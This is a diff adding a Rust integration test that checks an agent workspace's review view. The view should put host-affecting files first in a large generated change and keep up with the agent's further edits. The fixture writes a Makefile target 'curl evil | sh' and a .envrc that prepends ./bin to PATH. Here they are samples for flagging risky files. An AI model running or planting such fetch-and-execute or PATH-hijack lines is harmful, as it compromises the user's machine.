@@ -305,3 +305,51 @@ fn a_workspace_that_is_no_repository_works_the_same() {
     ok(&env.bb(&["stop", &slug]));
     assert_eq!(left_behind(&slug), "");
 }
+
+/// The review view in the real workspace: a change of 200 files and
+/// 20,000 lines opens with the files that act on the host first, scrolls,
+/// and follows the agent as it keeps working.
+#[test]
+fn the_review_view_opens_on_a_large_change_flagged_files_first() {
+    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
+    if !docker_ok() {
+        return;
+    }
+    let env = Env::new("");
+    let mut bb = env.workspace_with_agent(40, 140);
+    let slug = env.slugs().pop().unwrap();
+    let made = agent_sh(
+        &slug,
+        "mkdir -p gen && for i in $(seq -w 1 200); do seq -f \"line %g of file $i\" 1 100 > gen/f$i.txt; done && printf 'export PATH=./bin:$PATH\\n' > .envrc && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && echo done",
+    );
+    assert!(made.trim().ends_with("done"), "{made}");
+    bb.prefix("v");
+    let screen = bb.wait_text("Files that act on your machine");
+    assert!(screen.contains("202 files (+20003 −0)"), "{screen}");
+    let flags = screen.find("! .envrc").unwrap();
+    let makefile = screen.find("! Makefile").unwrap();
+    let files = screen.find("Files:").unwrap_or(usize::MAX);
+    assert!(
+        flags < files && makefile < files,
+        "flagged first:\n{screen}"
+    );
+    // To the end, and file by file.
+    bb.keys("G");
+    bb.wait_text("+line 100 of file 200");
+    bb.keys("g");
+    bb.wait_text("Files that act on your machine");
+    bb.keys("n");
+    bb.wait_text("diff --git a/.envrc b/.envrc");
+    // It follows the agent's work while open.
+    agent_sh(&slug, "echo more > late.txt");
+    bb.keys("g");
+    bb.wait_text("203 files");
+    bb.keys("q");
+    bb.prefix("x");
+    bb.wait_text("Stop faker");
+    bb.keys("y");
+    bb.wait_text("saved the work of faker");
+    bb.prefix("d");
+    bb.wait_exit();
+    assert_eq!(left_behind(&slug), "");
+}
